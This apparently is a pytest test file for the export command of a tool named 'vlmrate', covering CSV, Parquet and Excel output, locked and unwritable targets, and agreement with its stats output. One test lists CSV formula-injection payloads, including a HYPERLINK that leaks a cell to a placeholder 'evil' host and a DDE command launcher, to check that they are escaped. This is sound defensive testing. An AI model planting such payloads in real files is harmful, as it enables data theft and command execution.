"""`vlmrate export`: default path, CSV/Parquet, atomic replacement, unwritable targets,
and (once vlmrate.stats exists) numbers equal to `vlmrate stats --json`."""

from __future__ import annotations

import json
import os
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from tests.export.conftest import REPEATS, fake_per_image, fake_stats
from vlmrate.cli import main
from vlmrate.errors import UserError
from vlmrate.export import ERRORS_COLUMNS, SHEETS, write_workbook
from vlmrate.runfolder.store import LoadedRun, load_run
from vlmrate.stats.layout import AGREEMENT, RELIABILITY, sheet_rows, value_at


@pytest.fixture
def fake_stats_module(monkeypatch: pytest.MonkeyPatch) -> None:
    """Stand-in for vlmrate.stats (another branch) behind export.compute_stats."""
    def compute(run: LoadedRun, **_: object) -> tuple[dict, pl.DataFrame]:
        return (fake_stats(run.aspects, REPEATS, 12, run.name),
                fake_per_image(run.ratings, run.human, run.aspects))
    monkeypatch.setattr("vlmrate.export.compute_stats", compute)


def test_cli_default_path_csv_parquet(run_dir: Path, fake_stats_module: None,
                                      capsys: pytest.CaptureFixture) -> None:
    runs = run_dir.parent
    code = main(["export", "demo", "--csv", "--parquet", "--runs-dir", str(runs)])
    assert code == 0
    printed = capsys.readouterr().out.split()
    xlsx = run_dir / "demo.xlsx"
    assert [Path(p) for p in printed] == [xlsx, run_dir / "demo.ratings.csv",
                                          run_dir / "demo.ratings.parquet"]
    assert openpyxl.load_workbook(xlsx).sheetnames == list(SHEETS)
    ratings = load_run(run_dir).ratings
    csv = pl.read_csv(run_dir / "demo.ratings.csv")
    assert csv.height == ratings.height
    assert set(csv["reason"].drop_nulls()) == {
        "'" + r if r[0] in "=+-@\t\r" else r for r in ratings["reason"].drop_nulls()}
    parquet = pl.read_parquet(run_dir / "demo.ratings.parquet")
    assert parquet.sort("image_id", "aspect", "repeat").equals(
        ratings.sort("image_id", "aspect", "repeat"))
    assert not [p for p in run_dir.iterdir() if p.name.endswith(".tmp")]


def test_cli_output_option(run_dir: Path, tmp_path: Path, fake_stats_module: None,
                           capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "paper" / "table.xlsx"
    out.parent.mkdir()
    assert main(["export", str(run_dir), "-o", str(out)]) == 0
    assert capsys.readouterr().out.strip() == str(out)
    assert openpyxl.load_workbook(out)["Ratings"].max_row > 1


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("missing/x.xlsx", "does not exist"),
        ("adir", "is a directory"),
        ("adir.xlsx", "is a directory"),
        ("locked.xlsx", "open in another program"),
        ("excel-open.xlsx", "open in another program"),
        ("notes.txt", "must end in .xlsx"),
    ],
)
def test_cli_unwritable_target_exits_2(run_dir: Path, tmp_path: Path, target: str,
                                       expected: str, capsys: pytest.CaptureFixture) -> None:
    (tmp_path / "adir").mkdir()
    (tmp_path / "adir.xlsx").mkdir()
    (tmp_path / ".~lock.locked.xlsx#").write_text("user,host,")  # LibreOffice has it open
    (tmp_path / "~$excel-open.xlsx").write_text("owner")  # Excel has it open
    code = main(["export", str(run_dir), "-o", str(tmp_path / target)])
    err = capsys.readouterr().err
    assert code == 2
    assert expected in err and err.count("\n") == 1 and "Traceback" not in err


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root may write anywhere")
def test_permission_denied(loaded: LoadedRun, stats_json: dict, per_image: pl.DataFrame,
                           tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(UserError, match="permission denied"):
            write_workbook(loaded, stats_json, per_image, folder / "x.xlsx")
    finally:
        folder.chmod(0o700)
    existing = tmp_path / "readonly.xlsx"
    existing.write_bytes(b"old")
    existing.chmod(0o400)
    with pytest.raises(UserError, match="read-only"):
        write_workbook(loaded, stats_json, per_image, existing)


def test_permission_denied_as_seen_by_a_user(loaded: LoadedRun, stats_json: dict,
                                             per_image: pl.DataFrame, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """The same checks when the tests run as root: os.access says no, then open() does."""
    existing = tmp_path / "readonly.xlsx"
    existing.write_bytes(b"old")
    monkeypatch.setattr("vlmrate.export.target.os.access", lambda p, mode: Path(p) != existing)
    with pytest.raises(UserError, match="read-only"):
        write_workbook(loaded, stats_json, per_image, existing)
    monkeypatch.setattr("vlmrate.export.target.os.access", lambda p, mode: Path(p) != tmp_path)
    with pytest.raises(UserError, match="permission denied"):
        write_workbook(loaded, stats_json, per_image, tmp_path / "x.xlsx")
    monkeypatch.undo()

    real_open = os.open

    def deny(file: object, *args: object, **kwargs: object) -> object:
        if str(file).endswith(".tmp"):
            raise PermissionError(13, "Permission denied")
        return real_open(file, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr("vlmrate.runfolder.files.os.open", deny)
    with pytest.raises(UserError, match="Permission denied"):
        write_workbook(loaded, stats_json, per_image, tmp_path / "y.xlsx")
    assert existing.read_bytes() == b"old"


def test_locked_target_on_replace(loaded: LoadedRun, stats_json: dict,
                                  per_image: pl.DataFrame, tmp_path: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Windows refuses to replace a workbook Excel holds open: one line, old file kept."""
    target = tmp_path / "open.xlsx"
    target.write_bytes(b"old")

    def locked(src: object, dst: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("vlmrate.export.target.os.replace", locked)
    with pytest.raises(UserError, match="open in another program"):
        write_workbook(loaded, stats_json, per_image, target)
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["open.xlsx", "runs"]


def test_failed_export_keeps_the_old_workbook(loaded: LoadedRun, stats_json: dict,
                                              per_image: pl.DataFrame, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "book.xlsx"
    write_workbook(loaded, stats_json, per_image, target)
    before = target.read_bytes()

    def broken(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("vlmrate.export.sheets.assemble", broken)
    with pytest.raises(UserError, match="No space left on device"):
        write_workbook(loaded, stats_json, per_image, target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsx", "runs"]


def test_numbers_equal_stats_json(run_dir: Path, capsys: pytest.CaptureFixture) -> None:
    """The real thing: the workbook's numbers are `vlmrate stats --json`'s."""
    assert main(["stats", str(run_dir), "--json", "--bound", "0.4", "--alpha", "0.1"]) == 0
    stats = json.loads(capsys.readouterr().out)
    assert main(["export", str(run_dir), "--bound", "0.4", "--alpha", "0.1"]) == 0
    book = openpyxl.load_workbook(Path(capsys.readouterr().out.strip()))
    aspects = list(stats["aspects"])

    def close(cell: object, want: object) -> bool:
        if want is None:
            return cell is None
        if isinstance(want, bool):  # booleans as the reports say them
            return cell == ("yes" if want else "no")
        if isinstance(want, str):
            return cell == want
        return isinstance(cell, int | float) and cell == pytest.approx(want, rel=1e-12,
                                                                       abs=1e-15)

    for sheet in (RELIABILITY, AGREEMENT):
        spec = sheet_rows(sheet)
        rows = list(book[sheet].iter_rows(values_only=True))
        header = rows[0]
        field = header.index("field (stats --json)")
        for row in rows[1:len(spec) + 1]:
            for aspect in aspects:
                want = value_at(stats["aspects"][aspect], row[field])
                assert close(row[header.index(aspect)], want), (sheet, row[field], aspect)
    errors = list(book["ErrorsByK"].iter_rows(values_only=True))[1:]
    for row in errors:
        entry = stats["aspects"][row[0]]["errors_by_k"][row[1] - 1]
        for value, (_, key, _) in zip(row[1:], ERRORS_COLUMNS, strict=True):
            assert close(value, value_at(entry, key)), (row[0], key)
    assert len(errors) == sum(len(a["errors_by_k"]) for a in stats["aspects"].values())
    facts = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if r[0]}
    assert facts["TOST bound"] == 0.4 and facts["alpha"] == 0.1
    cross = list(book["CrossByK"].iter_rows(values_only=True))
    for i, row in enumerate(cross):
        if isinstance(row[0], str) and row[0].startswith("k = "):
            k, header = row[0][4:], cross[i + 1]
            for line in cross[i + 2:i + 2 + len(stats["cross_by_k"][k])]:
                for human, cell in zip(header[1:], line[1:], strict=True):
                    assert close(cell, stats["cross_by_k"][k][line[0]][human])


HOSTILE_CSV_TEXT = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                    "@SUM(1)", "-1+1", "=2+2", "\t=1+1", "\r=1+1", "-", "a=b", " =1"]


def test_csv_cells_never_start_a_formula(tmp_path: Path, fake_stats_module: None,
                                         capsys: pytest.CaptureFixture) -> None:
    """Issue 17 item 4: ids, reasons and raw answers that a spreadsheet would run are
    written with a leading ' (OWASP); the text after it is the text stored."""
    import csv as csv_module

    from tests.export.conftest import make_run
    from vlmrate.runfolder.store import RATINGS

    run_dir = make_run(tmp_path / "runs", "h")
    with open(run_dir / RATINGS, "a") as handle:
        for i, text in enumerate(HOSTILE_CSV_TEXT, start=1):
            handle.write(json.dumps({
                "image_id": text, "aspect": "relevance", "repeat": 1, "seed": i, "rating": 3,
                "reason": text, "raw": text, "parse_error": None, "finish_reason": text,
                "prompt_tokens": 1, "output_tokens": 1, "latency_s": -1.5,
                "expected_rating": None, "rating_probs": None, "engine_error": text,
                "time": "t"}) + "\n")
    assert main(["export", "h", "--csv", "--runs-dir", str(tmp_path / "runs")]) == 0
    capsys.readouterr()
    with open(run_dir / "h.ratings.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv_module.DictReader(handle))
    for row in rows:
        for name, cell in row.items():
            if name != "latency_s":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    hostile = {row["image_id"]: row for row in rows if row["latency_s"] == "-1.5"}
    assert len(hostile) == len(HOSTILE_CSV_TEXT)  # a number column keeps its minus sign
    for text in HOSTILE_CSV_TEXT:
        shown = "'" + text if text[0] in "=+-@\t\r" else text
        assert shown in hostile
        row = hostile[shown]
        assert row["reason"] == row["raw"] == row["engine_error"] == shown


def test_names_too_long_for_the_file_system(run_dir: Path, tmp_path: Path,
                                            capsys: pytest.CaptureFixture) -> None:
    """Issue 17 item 6: a 300-character -o or run name was a traceback (ENAMETOOLONG)."""
    runs = str(run_dir.parent)
    long = "a" * 300
    for args in (["export", "demo", "-o", str(tmp_path / f"{long}.xlsx")],
                 ["export", "demo", "-o", str(tmp_path / long / "x.xlsx")],
                 ["stats", long], ["export", long]):
        assert main([*args, "--runs-dir", runs]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "Traceback" not in err and len(err) < 300
        assert "File name too long" in err or "not found" in err
